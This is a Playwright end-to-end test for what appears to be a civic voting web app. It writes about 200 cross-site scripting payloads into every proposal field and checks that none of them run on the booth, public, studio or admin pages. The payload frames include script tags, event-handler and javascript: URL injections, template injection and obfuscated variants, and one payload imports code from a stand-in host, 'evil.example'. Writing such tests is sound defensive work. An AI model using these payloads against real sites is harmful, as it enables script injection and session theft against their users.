import { begin, expectStep, goOn, leaveBlank, rankRows } from './support/booth';
import { openPhone, residentOf, verify } from './support/people';
import { draftRound, moveRound } from './support/rounds';
import { expect, expectNoSidewaysScroll, test } from './support/test';
import { cookieOf, withRegistry } from './support/walk';

/**
 * T17: two hundred ways to make a text run, kept in every field of the proposals of a round, and all
 * the places opened where somebody reads them. Nothing runs, and the page's policy has nothing to stop.
 */

const CHILCA = '120107';

const SCRIPTS = [
  'alert(1)',
  'print()',
  'confirm`1`',
  '(window.hostile=1)',
  'import("//evil.example")',
];
const FRAMES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `</style><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</title><svg/onload=${script}>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `"><img src=x onerror="${script}">`,
  (script) => `'><img src=x onerror='${script}'>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<math><mtext><img src onerror=${script}></mtext></math>`,
  (script) => `<body onload=${script}>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `[x](javascript:${script})`,
  (script) => `![x](x"onerror="${script})`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<form action="javascript:${script}"><button autofocus>x</button></form>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) =>
    `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":"${script}"}}`,
  (script) => `<scr\u0000ipt>${script}</scr\u0000ipt>`.replaceAll('\u0000', '\u200b'),
  (script) => `\u202e<script>${script}</script>`,
  (script) => `<ScRiPt >${script}</sCrIpT >`,
  (script) => `<img/src='x'\nonerror\n=\n${script}\n>`,
  (script) => `<style>@import 'javascript:${script}';</style>`,
];
const PAYLOADS = FRAMES.flatMap((frame) => SCRIPTS.map(frame));

const FIELDS = [
  'title_es',
  'title_en',
  'label_es',
  'label_en',
  'what_es',
  'what_en',
  'where_es',
  'where_en',
  'why_es',
  'why_en',
  'proposer_name',
] as const;

/** Writes payloads into every field of every proposal of a cycle: as the database's, past any form. */
async function poison(cycleId: string): Promise<string[]> {
  return withRegistry(async (sql) => {
    const codes = (
      await sql<
        { code: string }[]
      >`select code from proposal where cycle_id = ${cycleId} order by code`
    ).map(({ code }) => code);
    let next = 0;
    const portion = (count: number) =>
      Array.from({ length: count }, () => PAYLOADS[next++ % PAYLOADS.length] ?? '').join(' ');
    for (const code of codes) {
      for (const field of FIELDS) {
        const text = portion(/label|title|name/.test(field) ? 1 : 6);
        await sql`update proposal set ${sql({ [field]: text })} where code = ${code}`;
      }
    }
    expect(next, 'all of them were written').toBeGreaterThan(PAYLOADS.length);
    return codes;
  });
}

test('T17: whatever is written in a proposal is text in booth, projector, site and staff pages', async ({
  browser,
  watch,
}) => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
  const { id, cycleId } = await draftRound({
    id: 'e2e-textos',
    allocates: ['province', CHILCA],
  });
  const codes = await poison(cycleId);
  await moveRound('open', id);
  const [round] = await withRegistry(
    (sql) => sql<{ screen_code: string }[]>`select screen_code from round where id = ${id}`,
  );

  const dialogs: string[] = [];
  const phone = await openPhone(browser, watch);
  const context = phone.context();
  context.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()} ${dialog.message()}`);
    void dialog.dismiss();
  });
  // A policy that had to stop something was the second line: the first had failed.
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`content security policy: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  const clean = async (where: string) => {
    expect(dialogs, where).toEqual([]);
    const ran = await phone.evaluate(() => 'hostile' in window);
    expect(ran, where).toBe(false);
    const strange = await phone
      .locator(
        'iframe, object, embed, base, marquee, math, [onerror], [onload], [onfocus], [ontoggle], a[href^="javascript:"], form[action^="javascript:a"]',
      )
      .count();
    expect(strange, where).toBe(0);
  };

  await verify(phone, id, residentOf(CHILCA, 40));
  await begin(phone);
  await rankRows(phone, 1);
  await goOn(phone);
  for (const fund of ['province', 'district']) {
    await expect(phone.locator('fieldset').getByRole('checkbox').first()).toBeVisible();
    await phone.locator('fieldset details').evaluateAll((all) => {
      for (const one of all) one.setAttribute('open', '');
    });
    await expectNoSidewaysScroll(phone);
    await clean(`booth, ${fund}`);
    await leaveBlank(phone);
    await goOn(phone);
  }
  await expectStep(phone, 'Revisa tu voto');
  await clean('review');

  const [name = '', value = ''] = (await cookieOf('demo-technical')).split('=');
  const url = new URL(phone.url()).origin;
  await context.addCookies([{ name, value, url }]);
  const [first = ''] = codes;
  const places = [
    `/screen/${round?.screen_code ?? ''}`,
    `/votar/${id}`,
    `/propuestas?proceso=${cycleId}`,
    ...codes.slice(0, 4).map((code) => `/propuestas/${code}`),
    `/studio/${first}`,
    '/studio',
  ];
  for (const place of places) {
    await phone.goto(place);
    await clean(place);
  }
  const [admin = '', session = ''] = (await cookieOf('demo-admin')).split('=');
  await context.addCookies([{ name: admin, value: session, url }]);
  await phone.goto(`/admin/rounds/${id}`);
  await clean('admin');
  await context.close();
});
